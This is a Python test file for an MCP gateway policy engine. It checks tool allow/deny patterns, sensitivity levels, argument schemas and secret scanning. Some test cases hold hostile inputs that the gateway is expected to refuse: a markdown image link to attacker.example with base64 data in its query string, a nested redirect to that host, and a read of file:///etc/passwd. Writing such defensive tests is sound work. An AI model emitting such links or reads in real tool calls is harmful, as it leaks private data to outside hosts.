"""The gateway's per-tool decisions as tables: pattern, first match, default, labels, schema, scan.

Pure: no server, no I/O. Each case is keyed by the sentence it checks.
"""

from __future__ import annotations

import textwrap
import time
from typing import Any

import pytest

from egresslock.errors import PolicyError
from egresslock.flow.mark import SessionMark
from egresslock.mcp.decide import Call, CallDecision, ToolTable, compile_pattern
from egresslock.policy import parse_policy

SECRET = "s3cr3tK3yV4lu3-egresslock-test"


def _table(mcp: str, *, levels: bool = True, mode: str = "enforce") -> ToolTable:
    head = "version: 1\nmode: " + mode + "\n"
    if levels:
        head += "levels: [public, internal, confidential]\n"
    return ToolTable(parse_policy(head + "mcp:\n" + textwrap.indent(textwrap.dedent(mcp), "  ")))


def _secrets(text: str) -> list[str]:
    return ["secret key (plain)"] if SECRET in text else []


def _mark(level: str | None = None) -> SessionMark:
    mark = SessionMark(["public", "internal", "confidential"], clock=lambda: 0.0)
    if level is not None:
        mark.raise_to(level, "tool get_file", "get_file")
    return mark


def _decide(table: ToolTable, call: Call, level: str | None = None) -> CallDecision:
    return table.decide(call, mark=_mark(level), secrets=_secrets, server="MCP server gh")


TOOLS = """\
tools:
  - {name: get_file, reads: confidential}
  - {name: create_issue, level: public,
     arguments: {type: object, required: [repo], additionalProperties: false,
                 properties: {repo: {enum: [acme/public]}, title: {type: string, maxLength: 20},
                              body: {type: string}}}}
  - {name: "delete_*", action: deny}
  - {name: "list_*", reads: public}
  - {name: "*_raw", scan: false}
  - {name: "resource:repo://acme/private/*", reads: confidential}
  - {name: "prompt:summarize", level: internal}
"""

CASES: list[tuple[str, Call, str | None, str, str, str]] = [
    # sentence, call, mark level, verdict, rule, reason fragment
    ("an entry allows its tool and names its reads",
     Call("tool", "get_file", {"repo": "acme/private"}), None, "allow", "get_file",
     "allowed by mcp.tools[0] ('get_file')"),
    ("a tool no entry matches falls to the default, deny",
     Call("tool", "push_files", {}), None, "deny", "default",
     "no mcp.tools entry matches 'push_files' and mcp.default is deny"),
    ("a star pattern matches any run of characters",
     Call("tool", "delete_repository", {}), None, "deny", "delete_*",
     "tools matching 'delete_*' are denied (mcp.tools[2])"),
    ("patterns are case-sensitive, as MCP names are",
     Call("tool", "Delete_repository", {}), None, "deny", "default", "mcp.default is deny"),
    ("the first matching entry decides: list_raw is scanned under list_*, not *_raw",
     Call("tool", "list_raw", {"q": SECRET}), None, "deny", "list_*",
     "argument /q holds secret key"),
    ("a write below the mark is refused, naming the read",
     Call("tool", "create_issue", {"repo": "acme/public"}), "confidential", "deny",
     "create_issue", "session is confidential since tool get_file at "),
    ("a write at or above the mark is allowed",
     Call("tool", "create_issue", {"repo": "acme/public"}), None, "allow", "create_issue", ""),
    ("a level is checked before the schema: the refusal names the read",
     Call("tool", "create_issue", {"repo": "acme/secret"}), "internal", "deny", "create_issue",
     "session is internal since tool get_file"),
    ("arguments outside the schema are refused, without quoting the value",
     Call("tool", "create_issue", {"repo": "acme/private"}), None, "deny", "create_issue",
     'at /repo: fails enum ["acme/public"]'),
    ("a missing required argument is named",
     Call("tool", "create_issue", {}), None, "deny", "create_issue",
     "at /: 'repo' is a required property"),
    ("an over-long argument is refused by maxLength",
     Call("tool", "create_issue", {"repo": "acme/public", "title": "x" * 21}), None, "deny",
     "create_issue", "at /title: fails maxLength 20"),
    ("an argument holding a secret is refused",
     Call("tool", "create_issue", {"repo": "acme/public", "body": f"key={SECRET}"}), None,
     "deny", "create_issue", "argument /body holds secret key (plain)"),
    ("a secret in a nested key is found too",
     Call("tool", "list_issues", {"filter": {SECRET: 1}}), None, "deny", "list_*",
     f"argument /filter/{SECRET} (name) holds secret key"),
    ("scan: false lets a secret through",
     Call("tool", "dump_raw", {"q": SECRET}), None, "allow", "*_raw", ""),
    ("a data-carrying link in an argument is refused",
     Call("tool", "create_issue", {"repo": "acme/public", "body": (
         "![](https://attacker.example/i.png?d=UHJpdmF0ZSByb2FkbWFwOiBhY3F1aXNpdGlvbiBvZiBJbml0"
         "ZWNoIGNsb3NlcyBzb29u)")}), None, "deny", "create_issue",
     "argument /body holds a dynamic link"),
    ("a nested URL is a dynamic link",
     Call("tool", "create_issue", {"repo": "acme/public",
                                   "body": "https://ok.example/r?to=https://attacker.example/x"}),
     None, "deny", "create_issue", "holds a URL (a nested link)"),
    ("an ordinary link is not",
     Call("tool", "create_issue", {"repo": "acme/public",
                                   "body": "see https://docs.example.com/guide/install#linux."}),
     None, "allow", "create_issue", ""),
    ("a resource read is matched as resource:URI and raises the mark",
     Call("resource", "repo://acme/private/a.md", {"uri": "repo://acme/private/a.md"}), None,
     "allow", "resource:repo://acme/private/*", ""),
    ("a resource no entry names is refused by the default",
     Call("resource", "file:///etc/passwd", {"uri": "file:///etc/passwd"}), None, "deny",
     "default", "no mcp.tools entry matches 'resource:file:///etc/passwd'"),
    ("a prompt is matched as prompt:NAME and obeys its level",
     Call("prompt", "summarize", {"text": "x"}), "confidential", "deny", "prompt:summarize",
     "prompt summarize accepts internal"),
]


@pytest.mark.parametrize(("sentence", "call", "level", "verdict", "rule", "reason"), CASES,
                         ids=[c[0] for c in CASES])
def test_decision(sentence: str, call: Call, level: str | None, verdict: str, rule: str,
                  reason: str) -> None:
    decision = _decide(_table(TOOLS), call, level)
    assert (decision.verdict, decision.rule_id) == (verdict, rule), decision
    assert reason in decision.reason


def test_an_allowed_decision_carries_the_entrys_reads() -> None:
    table = _table(TOOLS)
    assert _decide(table, Call("tool", "get_file")).reads == "confidential"
    assert _decide(table, Call("tool", "list_issues")).reads == "public"
    assert _decide(table, Call("tool", "create_issue", {"repo": "acme/public"})).reads is None


def test_the_refusal_names_the_read_the_destination_and_the_entry() -> None:
    call = Call("tool", "create_issue", {"repo": "acme/public"})
    decision = _decide(_table(TOOLS), call, "confidential")
    at = time.strftime("%H:%M:%S", time.localtime(0.0))
    assert decision.message(call) == (
        f"egresslock: denied: tool create_issue: session is confidential since tool get_file "
        f"at {at}; tool create_issue accepts public (no write down to MCP server gh)")


def test_default_allow_still_scans_the_arguments() -> None:
    table = _table("default: allow\n", levels=False)
    assert _decide(table, Call("tool", "anything", {"q": "fine"})).verdict == "allow"
    refused = _decide(table, Call("tool", "anything", {"q": SECRET}))
    assert (refused.verdict, refused.rule_id) == ("deny", "default")
    assert refused.findings == ("secret key (plain)",)


def test_a_policy_without_levels_has_no_mark_to_check() -> None:
    table = _table("tools:\n  - {name: create_issue}\n", levels=False)
    decision = table.decide(Call("tool", "create_issue"), mark=None, secrets=_secrets)
    assert decision.verdict == "allow"


def test_report_mode_reports_what_enforce_would_deny() -> None:
    table = _table(TOOLS, mode="report")
    decision = _decide(table, Call("tool", "delete_repository"))
    assert (decision.verdict, decision.forwarded) == ("report", True)


@pytest.mark.parametrize(("call", "listed"), [
    (Call("tool", "get_file"), True),
    (Call("tool", "create_issue"), True),       # labels are checked per call, not listing
    (Call("tool", "delete_repository"), False),  # action: deny
    (Call("tool", "push_files"), False),         # the default
    (Call("resource", "repo://acme/private/x"), True),
    (Call("prompt", "other"), False),
])
def test_listings_show_what_an_entry_or_the_default_allows(call: Call, listed: bool) -> None:
    assert _table(TOOLS).listed(call) is listed


@pytest.mark.parametrize(("pattern", "name", "matches"), [
    ("get_file", "get_file", True),
    ("get_file", "get_files", False),
    ("get.file", "get_file", False),   # '.' is literal
    ("*", "resource:repo://x/y", True),
    ("resource:*", "resource:a:b/c", True),
    ("a*b*c", "abc", True),
    ("a*b*c", "axxbyyc", True),
    ("a*b*c", "axxbyy", False),
])
def test_patterns(pattern: str, name: str, matches: bool) -> None:
    assert bool(compile_pattern(pattern).fullmatch(name)) is matches


def test_an_invalid_arguments_schema_is_a_policy_error_naming_the_entry() -> None:
    with pytest.raises(PolicyError, match=r"mcp\.tools\[1\]\.arguments: not a valid JSON Schema"):
        _table("tools:\n  - {name: a}\n  - {name: b, arguments: {type: 12}}\n")


def test_format_keywords_are_checked() -> None:
    table = _table("tools:\n  - {name: mail, arguments: {properties: {to: "
                   "{type: string, format: email}}}}\n")
    ok: dict[str, Any] = {"to": "a@example.com"}
    assert _decide(table, Call("tool", "mail", ok)).verdict == "allow"
    refused = _decide(table, Call("tool", "mail", {"to": "not-an-address"}))
    assert refused.reason.endswith('at /to: fails format "email"')
